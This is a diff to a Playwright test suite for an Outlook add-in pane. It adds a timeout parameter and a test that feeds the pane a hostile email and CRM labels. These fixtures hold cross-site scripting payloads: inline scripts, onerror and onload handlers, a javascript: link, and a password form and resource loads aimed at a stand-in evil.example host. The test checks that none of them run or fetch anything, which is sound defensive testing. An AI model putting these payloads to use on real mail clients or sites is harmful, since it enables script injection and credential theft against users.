@@ -4,9 +4,15 @@ import { RecordForm } from '../pages/record-form.ts';
 
 const elsewhere = 'https://evil.example';
 
-/** What is tried in the pane, each in words; gives those that went through. */
-async function tryEverything(outlook: OutlookWindow): Promise<readonly string[]> {
-  return outlook.pane.frame.locator('body').evaluate(async (body, evil) => {
+/**
+ * What is tried in the pane, each in words; gives those that went through, each within `patience`
+ * milliseconds.
+ */
+async function tryEverything(
+  outlook: OutlookWindow,
+  patience: number,
+): Promise<readonly string[]> {
+  return outlook.pane.frame.locator('body').evaluate(async (body, [evil, most]) => {
     const through: string[] = [];
     const page = window as unknown as { ran?: string; trustedTypes: TrustedTypes };
     interface TrustedTypes {
@@ -25,7 +31,9 @@ async function tryEverything(outlook: OutlookWindow): Promise<readonly string[]>
             }
           }),
         );
-        await new Promise((done) => setTimeout(done, 100));
+        for (let waited = 0; waited < most && isDone !== true && !page.ran; waited += 50) {
+          await new Promise((done) => setTimeout(done, 50));
+        }
         if (isDone === true || page.ran !== undefined) through.push(what);
       } catch {
         // Refused.
@@ -85,7 +93,7 @@ async function tryEverything(outlook: OutlookWindow): Promise<readonly string[]>
       return true;
     });
     return through;
-  }, elsewhere);
+  }, [elsewhere, patience] as const);
 }
 
 test.describe('what the policy refuses', () => {
@@ -100,6 +108,7 @@ test.describe('what the policy refuses', () => {
     outlook: OutlookWindow,
     paneAddress: string,
     serve: (page: string) => { body: string; headers?: Record<string, string> },
+    patience = 150,
   ): Promise<{ through: readonly string[]; asked: readonly string[] }> {
     const asked: string[] = [];
     await outlook.page.route(/evil\.example/, (route) => {
@@ -118,7 +127,7 @@ test.describe('what the policy refuses', () => {
     await outlook.openMail('Signed contract');
     await outlook.openPane();
     await expect(outlook.pane.heading('Sign in to your CRM')).toBeVisible();
-    return { through: await tryEverything(outlook), asked };
+    return { through: await tryEverything(outlook, patience), asked };
   }
 
   test('code and markup from text, and scripts from elsewhere, by the header alone', async ({
@@ -148,10 +157,11 @@ test.describe('what the policy refuses', () => {
     outlook,
     sandbox,
   }) => {
-    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, (page) => ({
+    const serve = (page: string) => ({
       body: withoutMeta(page).replace(/<script src="trust-[^>]*><\/script>/, ''),
       headers: withoutHeader,
-    }));
+    });
+    const { through, asked } = await whatGoesThrough(outlook, sandbox.pane, serve, 5_000);
     expect(through).toHaveLength(20);
     expect(asked).toHaveLength(3);
   });
@@ -197,4 +207,76 @@ test('nothing of the pane or of office.js is against the policy while a mail is 
   const [link] = await crm.links();
   expect(link?.files).toHaveLength(3);
   expect(violations).toEqual([]);
+});
+
+test.describe('a hostile mail', () => {
+  // What the mail wants is kept out of Outlook's window, and of the page without a window that the
+  // pane reads it in: there only its <base> is looked at.
+  test.use({ mayBeBlocked: /evil\.example|^Executing inline event handler|^Blocked script/ });
+
+  const evil = `${elsewhere}/seen`;
+  const body = [
+    `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
+    `<link rel="stylesheet" href="${evil}/sheet.css"><script src="${evil}/a.js"></script>`,
+    `<style>@import url(${evil}/import.css); p { background: url(${evil}/sheet.png) }</style>`,
+    `<script>parent.ran = 'it ran'</script><p style="background:url(${evil}/style.png)">Hello`,
+    `<img src="${evil}/image.png" onerror="parent.ran='it ran'" srcset="${evil}/set.png 2x">`,
+    `<svg onload="parent.ran='it ran'"><image href="${evil}/svg.png"/></svg>`,
+    `<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video>`,
+    `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>`,
+    `<form action="${evil}/form"><input name="password" autofocus></form>`,
+    '<a href="javascript:parent.ran=1">x</a></p>',
+  ].join('');
+  const mail = [
+    `From: "<img src=${evil}/name.png>" <ada@customer.example>`,
+    'To: Demo User <demo@vendor.example>',
+    `Subject: <script src=${evil}/subject.js></script>`,
+    'Message-ID: <hostile@customer.example>',
+    'Date: Fri, 20 Nov 2026 10:00:00 +0100',
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    body,
+    '',
+  ].join('\r\n');
+
+  test('and hostile labels of the CRM are text to the pane, and nothing of them is fetched or run', async ({
+    outlook,
+    crm,
+  }) => {
+    const { page, pane } = outlook;
+    const asked: string[] = [];
+    await page.route(/evil\.example/, (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    // The CRM calls its records and fields by markup of the same kind.
+    await page.route(`${crm.address}/restapi/**`, async (route) => {
+      const answer = await route.fetch();
+      const markup = `<img src=${evil}/label.png onerror=alert(1)>`;
+      const text = (await answer.text())
+        .replaceAll('"Ada"', JSON.stringify(markup))
+        .replaceAll('"Last Name"', JSON.stringify(`Last Name ${markup}`));
+      await route.fulfill({ response: answer, body: text });
+    });
+    await outlook.openFile('hostile.eml', mail);
+    await outlook.openPane();
+    await pane.signIn('admin');
+    await expect(pane.openMail).toContainText(`<script src=${evil}/subject.js></script>`);
+    await expect(pane.openMail).toContainText(`<img src=${evil}/name.png>`);
+    await pane.expectRest();
+    const form = new RecordForm(pane.frame);
+    await form.open('Contact');
+    await expect(pane.frame.getByText(`Last Name <img src=${evil}/label.png`).first()).toBeVisible();
+    await form.button('Cancel').click();
+    await pane.choose(/<img src=.*label\.png/);
+    await pane.link();
+    await pane.expectText(/^Linked to <img src=/);
+    expect(await crm.messages()).toHaveLength(1);
+    const alive = pane.frame.locator('script[src*=evil], img, iframe, object, base[href*=evil], [onerror]');
+    await expect(alive).toHaveCount(0);
+    expect(await pane.frame.locator('body').evaluate(() => 'ran' in window)).toBe(false);
+    // What Outlook's own window shows of the mail is Outlook's affair, and it loads nothing either.
+    expect(asked).toEqual([]);
+  });
 });
